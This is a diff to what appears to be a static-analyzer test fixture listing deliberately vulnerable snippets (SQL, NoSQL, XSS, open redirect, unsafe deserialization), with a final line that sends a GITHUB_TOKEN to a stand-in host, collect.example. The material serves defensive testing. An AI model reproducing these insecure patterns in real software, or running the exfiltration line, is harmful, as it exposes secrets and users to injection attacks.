@@ -32,7 +32,7 @@ const VARIANTS: Variant[] = [
   { lang: 'typescript', rule: 'js.flow.sql-injection', caught: 4, code: `import knex from 'knex';\nconst db = knex(config);\nexport async function list(req: Request) {\n  return db.raw(\`select * from items where owner = '\${req.params.owner}'\`);\n}\n` },
   { lang: 'javascript', rule: 'js.flow.sql-injection', caught: 5, code: `const mysql = require('mysql2/promise');\nfunction byName(name) { return "SELECT * FROM users WHERE name = '" + name + "'"; }\napp.get('/u', async (req, res) => {\n  const pool = await mysql.createPool(cfg);\n  const [rows] = await pool.execute(byName(req.query.name));\n});\n` },
   { lang: 'python', rule: 'py.flow.sql-injection', caught: 5, code: `from flask import request\nfrom sqlalchemy import text\ndef search(session):\n    name = request.args.get('name')\n    stmt = text(f"SELECT * FROM users WHERE name = '{name}'")\n    return session.execute(stmt)\n` },
-  { lang: 'python', rule: 'py.flow.sql-injection', caught: null, code: `from app.models import User\ndef search(request):\n    return User.objects.raw("SELECT * FROM app_user WHERE name = '%s'" % request.GET['q'])\n` },
+  { lang: 'python', rule: 'py.flow.sql-injection', caught: 3, code: `from app.models import User\ndef search(request):\n    return User.objects.raw("SELECT * FROM app_user WHERE name = '%s'" % request.GET['q'])\n` },
   // NoSQL injection
   { lang: 'javascript', rule: 'js.flow.nosql-injection', caught: 3, code: `app.post('/login', async (req, res) => {\n  const { email, password } = req.body;\n  const user = await users.findOne({ email, password });\n});\n` },
   { lang: 'javascript', rule: 'js.flow.nosql-injection', caught: 3, code: `router.get('/older', async (ctx) => {\n  const age = ctx.query.age;\n  ctx.body = await people.find({ $where: 'this.age > ' + age }).toArray();\n});\n` },
@@ -49,16 +49,16 @@ const VARIANTS: Variant[] = [
   // XSS
   { lang: 'javascript', rule: 'js.flow.reflected-xss', caught: null, code: `http.createServer((req, res) => {\n  const name = new URL(req.url, 'http://x').searchParams.get('name');\n  res.end('<h1>Hello ' + name + '</h1>');\n});\n` },
   { lang: 'javascript', rule: 'js.flow.dom-xss', caught: 2, code: `const target = document.getElementById('out');\ntarget.outerHTML = '<p>' + decodeURIComponent(location.hash.slice(1)) + '</p>';\n` },
-  { lang: 'python', rule: 'py.flow.xss', caught: null, code: `from django.http import HttpResponse\ndef hello(request):\n    name = request.GET['name']\n    return HttpResponse("<p>%s</p>" % name)\n` },
+  { lang: 'python', rule: 'py.flow.xss', caught: 4, code: `from django.http import HttpResponse\ndef hello(request):\n    name = request.GET['name']\n    return HttpResponse("<p>%s</p>" % name)\n` },
   { lang: 'python', rule: 'py.flow.xss', caught: 4, code: `from flask import request\nfrom markupsafe import Markup\ndef badge():\n    return Markup(f"<b>{request.args.get('n')}</b>")\n` },
   // open redirect
-  { lang: 'javascript', rule: 'js.flow.open-redirect', caught: null, code: `router.get('/login/done', async (ctx) => {\n  const next = ctx.query.next || '/';\n  ctx.redirect(next);\n});\n` },
+  { lang: 'javascript', rule: 'js.flow.open-redirect', caught: 3, code: `router.get('/login/done', async (ctx) => {\n  const next = ctx.query.next || '/';\n  ctx.redirect(next);\n});\n` },
   { lang: 'javascript', rule: 'js.flow.open-redirect', caught: 2, code: `app.get('/go', (req, res) => {\n  res.redirect(302, decodeURIComponent(req.query.to));\n});\n` },
-  { lang: 'python', rule: 'py.flow.open-redirect', caught: null, code: `from flask import request, redirect\ndef after_login():\n    target = request.args.get('next') or '/'\n    return redirect(target)\n` },
+  { lang: 'python', rule: 'py.flow.open-redirect', caught: 4, code: `from flask import request, redirect\ndef after_login():\n    target = request.args.get('next') or '/'\n    return redirect(target)\n` },
   { lang: 'python', rule: 'py.flow.open-redirect', caught: 3, code: `from django.http import HttpResponseRedirect\ndef back(request):\n    return HttpResponseRedirect(request.GET['next'])\n` },
   // deserialization
   { lang: 'javascript', rule: 'js.flow.unsafe-deserialization', caught: null, code: `const { unserialize } = require('node-serialize');\napp.get('/me', (req, res) => {\n  const profile = unserialize(Buffer.from(req.cookies.profile, 'base64').toString());\n});\n` },
-  { lang: 'python', rule: 'py.flow.unsafe-deserialization', caught: null, code: `import base64, pickle\nfrom flask import request\ndef restore():\n    data = base64.b64decode(request.cookies['session'])\n    return pickle.loads(data)\n` },
+  { lang: 'python', rule: 'py.flow.unsafe-deserialization', caught: 5, code: `import base64, pickle\nfrom flask import request\ndef restore():\n    data = base64.b64decode(request.cookies['session'])\n    return pickle.loads(data)\n` },
   { lang: 'python', rule: 'py.flow.unsafe-deserialization', caught: 4, code: `import yaml\nfrom flask import request\ndef config():\n    return yaml.load(request.data)\n` },
   // exfiltration
   { lang: 'javascript', rule: 'js.flow.secret-exfiltration', caught: 1, code: `fetch('https://collect.example/c?t=' + process.env.GITHUB_TOKEN);\n` },
